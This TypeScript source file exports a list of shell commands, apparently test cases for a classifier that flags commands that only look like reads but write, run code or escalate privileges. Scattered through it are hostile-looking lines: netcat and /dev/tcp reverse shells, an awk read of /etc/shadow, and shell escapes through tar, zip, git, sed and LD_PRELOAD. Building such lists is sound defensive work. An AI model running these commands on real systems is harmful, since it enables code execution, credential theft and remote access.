/** What looks like reading and is not: secrets by every program, writing options, hidden programs. */
export const MORE_THAN_READS_2: readonly string[] = `
tar -cf x y
cpio -i
7z x y
rpm -i x
dpkg -i x
make
gcc x
locale-gen
update-alternatives --set a b
ldconfig
rfkill unblock wifi
setterm -blank 0
stty -echo
chvt 2
loadkeys x
fc-cache
updatedb
amixer set Master 50%
aplay x
speaker-test
raspistill -o x
libcamera-still -o x
rpicam-still -o x
fswebcam x.jpg
v4l2-ctl -c brightness=1
v4l2-ctl --set-ctrl=brightness=1
iw reg set US
iw dev wlan0 set power_save off
iwconfig wlan0 essid x
wpa_cli reconfigure
wpa_cli scan
bluetoothctl power off
hciconfig hci0 down
ethtool -s eth0 speed 10
ethtool -r eth0
mii-tool -r
vnstat --add -i x
lpr x
at now
nice -n 5 touch x
renice 5 1
ulimit -n 5
umask 0
alias x=y
unalias x
export A=b
source x
. x
./x
/tmp/x
~/x
x
foo bar
watch -n 1 date > x
env ls
xargs ls
sh x.sh
bash x.sh
python3 x.py
python3
perl x
perl -e 'print 1'
python3 -c 'print(1)'
awk '{print > "x"}' y
awk '{print | "sh"}' y
awk 'BEGIN{system("id")}'
awk -f x y
awk 'BEGIN { while (("cat /etc/shadow" | getline l) > 0) print l }'
sed e x
sed '1e id' x
sed 's/a/id/e' x
sed -f x y
vim x
vi x
nano x
ed x
emacs x
less x +!id
man -P id ls
man -H id ls
git -c core.pager=id log
git -c core.sshCommand=id fetch
git --exec-path=/tmp log
git log --output=x
git diff --output=x
git diff --ext-diff
git grep -O id x
git archive -o x HEAD
git log --pretty=%H > x
GIT_PAGER=id git log
PAGER=id man ls
LD_PRELOAD=/tmp/x.so ls
PATH=/tmp:$PATH ls
systemctl --host x status y
systemctl -H root@x status
systemctl edit x
systemctl import-environment
systemctl show-environment; systemctl set-environment A=b
journalctl -D /tmp > x
ip -b x
ip -batch x
ip netns exec x ls
ip -n x link set eth0 up
ip vrf exec x ls
ss -F x -K
nmap -oN x h
nmap --script=x h
nmap --interactive
ping -f x
hping3 x
mtr -w x > y
file -C -m x
locate -d x y > z
df --output=source > x
lsof +D / > x
strings -a x > y
zgrep x y > z
unshare ls
ld.so /bin/ls
/lib64/ld-linux-x86-64.so.2 /bin/sh
lsblk -o NAME > x
jq -n input > x
yq -i '.a=1' x
jq . x > y
bc <<< 'x'
dc -e '!id'
gdb x
valgrind ls
ltrace ls
busybox sh
busybox wget x
busybox httpd
busybox telnetd
busybox nc -l -p 1
nc -e sh h 1
nc -l 1
socat x y
ssh x
scp a b:
sftp x
ftp x
telnet x
rsync a b
rsync -e id a b
tar cf x --checkpoint-action=exec=id y
tar --rsh-command=id -cf h:x y
tar -I id -cf x y
zip x y -T --unzip-command=id
zip x y -TT id
expect -c id
tclsh x
lua x
irb
node x
php x
gcc -wrapper id x
make -f x
make --eval=x
cmake x
npx x
npm exec x
npm run x
pip download x
cargo run
go run x
docker build .
docker cp a b
docker inspect x > y
docker -H tcp://x ps
kubectl apply -f x
kubectl exec x -- id
helm install x y
virsh start x
screen -x
tmux attach
chroot /x
nsenter -t 1 -a
pkexec id
su
su pi
login
newgrp x
exec 3<>/dev/tcp/h/1
echo x > /dev/tcp/h/1
read x
wait
sleep 5 &
ls &
(ls)
{ ls; }
ls $(date)
ls $HOME
ls "$HOME"
echo $PATH
echo $((1+1))
cat <<< x
cat <(ls)
ls >(cat)
if true; then ls; fi
for i in a; do ls; done
while true; do ls; done
f() { ls; }
f() { ls; }; f
A=b ls
A=b
{l,s}
l{s,}
[[ -f x ]]
(( 1 ))
case x in y) ls;; esac
let x=1
coproc ls
time { ls; }
ls < x
ls 3>&1
ls 1>&2
ls 2>&1 >x
enable -f x y
hash -p /tmp/x ls
bind x
complete -C id x
mapfile -C id x
trap id EXIT
PROMPT_COMMAND=id
BASH_ENV=x bash
printf -v x y
declare x=y
local x
typeset x=y
readonly x=y
kill -l; pkill --help x
compgen -c | xargs
`
  .trim()
  .split('\n')
